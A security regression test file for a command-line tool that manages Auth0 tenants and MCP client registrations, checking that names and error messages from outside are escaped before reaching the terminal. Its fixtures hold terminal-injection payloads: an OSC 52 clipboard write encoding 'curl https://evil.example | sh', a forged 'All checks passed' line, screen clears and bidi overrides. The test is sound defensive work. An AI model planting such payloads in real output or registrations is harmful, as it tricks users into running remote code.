import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import nock from "nock";
import { PassThrough } from "node:stream";
import { formatLine, styled } from "../../src/ui/logger.js";
import { printable } from "../../src/doctor/client-checks.js";
import { terminalPrompter } from "../../src/ui/prompts.js";
import { Capture, cli, type CliRun } from "../support/cli.js";
import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { jwtWith } from "../support/nock.js";
import { trustingFetch } from "../dev/support/mcp-client.js";
import { exampleArgs, freshFixture, IDENTIFIER, type Fixture } from "../support/tenant.js";

/*
 * Issue 21, item 1: strings from a tenant and from MCP clients' registrations reached the terminal
 * raw — an OSC 52 clipboard write, a screen clear, a forged "✔ All checks passed" line, bidi
 * overrides. A tenant seeded with hostile names, and a DCR client registered through /oidc/register
 * with OSC 52 in its client_name: no command prints a control or format character that came from
 * outside, while --json carries each string exactly.
 */

const OSC52 = "\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\u0007";
const FORGED_LINE = "\r\u001b[2K✔ All checks passed. Run: curl https://evil.example | sh\n";
const CLIENT_NAME = `Claude${OSC52}${FORGED_LINE}`;
const CONNECTION = `corp\u001b[2J\u001b[H${FORGED_LINE}db`;
const API_NAME = `MCP \u202egnp.exe\u202c server${OSC52}`;
const SCOPE_DESCRIPTION = `Read\u2028your\u200b identity\u0085\u009b31m`;
const ROLE = `Admin\u2066\u2029\u00ad\u007f`;
const ERROR_TEXT = `denied${OSC52}${FORGED_LINE}\u202e`;

/** What may never reach stdout or stderr: C0 but tab and newline, DEL, C1, format characters, line and paragraph separators. */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\p{Cf}\p{Zl}\p{Zp}]/u;

function expectClean(result: CliRun): void {
  for (const [stream, text] of [
    ["stdout", result.stdout],
    ["stderr", result.stderr],
  ] as const) {
    const found = UNSAFE.exec(text);
    const around = found ? JSON.stringify(text.slice(Math.max(0, found.index - 60), found.index + 20)) : "";
    expect(found, `${stream} holds U+${found?.[0].codePointAt(0)?.toString(16).padStart(4, "0")} after ${around}`).toBeNull();
  }
}

let fx: Fixture;
let connectionId: string;
const run = (args: string[]) => cli(args, { env: fx.env, ca: fx.tenant.caCertPem, cwd: fx.dir });
const shell = promisify(execFile);

beforeAll(async () => {
  fx = await freshFixture();
  const { store } = fx.tenant;
  store.settings.flags = { ...store.settings.flags, enable_dynamic_client_registration: true };
  connectionId = store.addConnection({ name: CONNECTION, strategy: "auth0", is_domain_connection: true }).id;
  // The API as a tenant could hold it (Auth0 refuses none of these characters in a name or description).
  store.addResourceServer({
    identifier: IDENTIFIER,
    name: API_NAME,
    scopes: [{ value: "tool:whoami", description: SCOPE_DESCRIPTION }],
    token_dialect: "rfc9068_profile_authz",
    enforce_policies: true,
    allow_offline_access: true,
  });
  const role = store.addRole({ name: ROLE });
  store.addRolePermissions(role.id, [{ resource_server_identifier: IDENTIFIER, permission_name: "tool:whoami" }]);

  // Anyone may register through DCR: a client names itself.
  const trusted = trustingFetch(fx.tenant.caCertPem);
  const answer = await trusted.fetch(`${fx.tenant.url}/oidc/register`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ client_name: CLIENT_NAME, redirect_uris: ["http://localhost:6274/oauth/callback"], token_endpoint_auth_method: "none" }),
  });
  expect(answer.status).toBe(201);
  await trusted.close();
  // Ten applications: doctor then names the oldest registration as one to delete.
  while (store.clients.filter((c) => !c.global).length < 10) fx.tenant.createM2MApplication([]);

  await writeFile(join(fx.dir, "teardown.yaml"), `api:\n  identifier: ${IDENTIFIER}\n  scopes: [{ value: "tool:whoami" }]\nconnections: [${connectionId}]\nroles: []\n`);
});
afterAll(async () => fx?.tenant.close());

describe("a tenant's names and an MCP client's registration are shown escaped, and exact in --json", () => {
  it("doctor", async () => {
    const human = await run(["doctor", "--api-identifier", IDENTIFIER]);
    expect(human.code).toBe(6);
    expectClean(human);
    // Made visible where they are printed: the registration, the API, the role, the connection.
    expect(human.stderr).toContain("Claude\\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\\x07\\r\\x1b[2K✔ All checks passed.");
    expect(human.stderr).toContain("MCP \\u202egnp.exe\\u202c server\\x1b]52;c;");
    expect(human.stderr).toContain("Admin\\u2066\\u2029\\xad\\x7f (tool:whoami)");
    expect(human.stderr).toContain("corp\\x1b[2J\\x1b[H\\r\\x1b[2K");
    // No line of its own for the forged one: it stays inside the line that quotes it.
    expect(human.stderr).not.toMatch(/^\s*✔ All checks passed/m);

    // The fix quotes the scope description so that the shell reads back exactly what the tenant holds.
    const fix = human.stderr.split("\n").find((l) => l.includes("fix: npx mcp-auth0 init"))!;
    expect(fix).toContain("$'tool:whoami=Read\\u2028your\\u200b identity\\u0085\\u009b31m'");
    // Pasted into bash, the quoted word is exactly the tenant's description again.
    const word = /\$'(?:[^'\\]|\\.)*'/.exec(fix)![0];
    const { stdout } = await shell("bash", ["-c", `printf %s ${word}`], { env: { ...process.env, LC_ALL: "C.UTF-8" } });
    expect(stdout).toBe(`tool:whoami=${SCOPE_DESCRIPTION}`);

    const json = await run(["doctor", "--api-identifier", IDENTIFIER, "--json"]);
    expectClean(json);
    const doc = JSON.parse(json.stdout) as { checks: Array<{ title: string; detail: string; fix?: string }> };
    const detail = (title: string) => doc.checks.find((c) => c.title === title)?.detail ?? "";
    expect(detail("Third-party applications")).toContain(`e.g. ${CLIENT_NAME} (`);
    expect(detail("Exists")).toContain(API_NAME);
    expect(detail("Roles granting this API's permissions")).toContain(ROLE);
    expect(detail("Domain-level connections")).toContain(CONNECTION);
  });

  it("promote-connection's list of the available connections", async () => {
    const human = await run(["promote-connection", "no-such-connection"]);
    expect(human.code).toBe(2);
    expectClean(human);
    expect(human.stderr).toContain(`corp\\x1b[2J\\x1b[H\\r\\x1b[2K✔ All checks passed. Run: curl https://evil.example | sh\\ndb (${connectionId})`);

    const json = await run(["promote-connection", "no-such-connection", "--json"]);
    expectClean(json);
    expect((JSON.parse(json.stdout) as { error: { hint: string } }).error.hint).toContain(`${CONNECTION} (${connectionId})`);
  });

  it("teardown --dry-run", async () => {
    const human = await run(["teardown", "--dry-run", "--config", "teardown.yaml"]);
    expect(human.code).toBe(0);
    expectClean(human);
    expect(human.stderr).toContain("Connection corp\\x1b[2J");

    const json = await run(["teardown", "--dry-run", "--config", "teardown.yaml", "--json"]);
    expectClean(json);
    expect(json.stdout).toContain("\\u001b[2J");
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain(JSON.stringify(CONNECTION).slice(1, -1));
  });

  it("init: its plan and its closing verdict", async () => {
    const args = exampleArgs(fx.dir, { roles: false, connections: connectionId });
    args.splice(args.indexOf("--api-name"), 2);
    const human = await run(args);
    expectClean(human);
    expect(human.code).toBe(0);
    // The plan (the description it replaces, the connection) and the verdict (the API's name, kept).
    expect(human.stderr).toContain('tool:whoami ("Read\\u2028your\\u200b identity\\x85\\x9b31m") → tool:whoami ("Read your identity")');
    expect(human.stderr).toContain("= Connection corp\\x1b[2J");
    expect(human.stderr).toContain("Exists: MCP \\u202egnp.exe\\u202c server\\x1b]52;c;");
  });
});

describe("error paths quote the tenant's words escaped, and exact in --json", () => {
  beforeAll(() => {
    nock.disableNetConnect();
    nock.enableNetConnect((host) => host.startsWith("localhost") || host.startsWith("127.0.0.1"));
  });
  afterAll(() => {
    nock.cleanAll();
    nock.enableNetConnect();
  });
  const DOMAIN = "hostile.example.com";

  it("the token endpoint's error_description", async () => {
    const args = ["doctor", "--domain", DOMAIN, "--client-id", "cid", "--api-identifier", IDENTIFIER];
    for (const json of [false, true]) {
      const scope = nock(`https://${DOMAIN}`).post("/oauth/token").reply(401, { error: "access_denied", error_description: ERROR_TEXT });
      const result = await cli(json ? [...args, "--json"] : args, { env: { AUTH0_CLIENT_SECRET: "secret" } });
      scope.done();
      expect(result.code).toBe(3);
      expectClean(result);
      if (json) expect((JSON.parse(result.stdout) as { error: { message: string } }).error.message).toContain(`(${ERROR_TEXT})`);
      else expect(result.stderr).toContain("(denied\\x1b]52;c;");
    }
  });

  it("a Management API error's message", async () => {
    const token = jwtWith({ scope: "read:connections update:connections" });
    for (const json of [false, true]) {
      const scope = nock(`https://${DOMAIN}`).get("/api/v2/connections").query(true).reply(400, { statusCode: 400, error: "Bad Request", message: ERROR_TEXT });
      const result = await cli(["promote-connection", "x", "--domain", DOMAIN, ...(json ? ["--json"] : [])], { env: { AUTH0_ACCESS_TOKEN: token } });
      scope.done();
      expect(result.code).toBe(1);
      expectClean(result);
      if (json) expect((JSON.parse(result.stdout) as { error: { message: string } }).error.message).toBe(`Auth0 answered 400: ${ERROR_TEXT}`);
      else expect(result.stderr).toContain("Auth0 answered 400: denied\\x1b]52;c;");
    }
  });
});

describe("the output layer itself", () => {
  it("keeps the program's colours and shows what a span holds visibly, with colour on", () => {
    const line = formatLine([styled("green", "✔"), ` ${API_NAME}`], true);
    expect(line).toBe("\u001b[32m✔\u001b[39m MCP \\u202egnp.exe\\u202c server\\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\\x07");
  });

  it("a cut of outside text keeps whole characters: an error page's emoji at the edge is not left as a lone surrogate", () => {
    const page = `${"a".repeat(239)}\u{1f600}b`;
    expect(printable(page)).toBe(`${"a".repeat(239)}\u{1f600}…`);
    expect(formatLine([printable(page)], false)).not.toContain("\\ud83d");
  });

  it("the wizard's questions and choices (a tenant's connection names) are shown escaped", async () => {
    const input = new PassThrough() as unknown as NodeJS.ReadStream;
    const output = new Capture();
    const shown = new Promise((resolve) => output.on("data", () => output.text.includes("submit") && resolve(undefined)));
    const chosen = terminalPrompter(output, input).checkbox({
      message: `Connections of ${API_NAME}`,
      flag: "--connections",
      choices: [{ name: CONNECTION, value: connectionId, checked: true }],
    });
    await shown;
    input.push("\r");
    expect(await chosen).toEqual([connectionId]);
    // Inquirer draws with its own escapes; none of the outside ones is among them.
    for (const raw of [OSC52, "\u001b[2J", "\u202e", "\r\u001b[2K✔"]) expect(output.text).not.toContain(raw);
    expect(output.text).toContain("corp\\x1b[2J\\x1b[H\\r\\x1b[2K✔ All checks passed");
    expect(output.text).toContain("Connections of MCP \\u202egnp.exe\\u202c");
  });
});
